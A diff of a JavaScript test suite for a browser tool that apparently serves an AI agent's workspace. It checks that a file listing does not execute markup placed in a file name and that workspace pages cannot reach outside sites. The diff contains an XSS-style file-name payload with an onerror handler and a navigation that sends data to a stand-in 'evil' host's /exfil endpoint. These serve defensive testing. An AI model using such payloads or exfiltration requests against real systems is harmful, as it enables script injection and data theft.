@@ -124,6 +124,14 @@ describe("browser workspace exfiltration", () => {
     assert.match(textOf(await ok(c, "snapshot")), /A workspace page may not open other sites/);
   });
 
+  test("a listing never runs markup from a file name", async () => {
+    write("listed/<img src=x onerror=\"document.title='pwned'\">.txt", "x");
+    const snap = textOf(await ok(c, "navigate", { url: fileUrl("listed") }));
+    assert.match(snap, /Title: Index of \/listed/);
+    assert.match(snap, /link "<img src=x onerror=/);
+    assert.equal(await evaluate(c, "document.querySelectorAll('img').length"), 0);
+  });
+
   test("the agent's own HTML report renders with its image, style and scripts, and its links work", async () => {
     const png = new PNG({ width: 7, height: 5 });
     write("report/plot.png", PNG.sync.write(png));
@@ -153,6 +161,11 @@ describe("browser workspace exfiltration", () => {
     const before = evil.received.length;
     assert.match(textOf(await ok(c, "click", { ref: refOf(report, 'link "elsewhere"') })), /A workspace page may not open other sites; open .* with browser_navigate/);
     assert.deepEqual(evil.received.slice(before), []);
+    // a new tab and the history tools are the tool's too
+    assert.match(textOf(await ok(c, "tabs", { action: "new", url: `${WORKSPACE}/report/index.html` })), /chart drawn by app\.js/);
+    await ok(c, "navigate", { url: `${h.site.origin}/a` });
+    assert.match(textOf(await ok(c, "back")), /chart drawn by app\.js/);
+    assert.match(textOf(await ok(c, "reload")), /chart drawn by app\.js/);
     await call(c, "browser_navigate", { url: `${evil.origin}/exfil?d=by-the-tool` }); // a 204: Chromium reports the navigation aborted
     assert.match(evil.received.at(-1) ?? "", /by-the-tool/);
   });
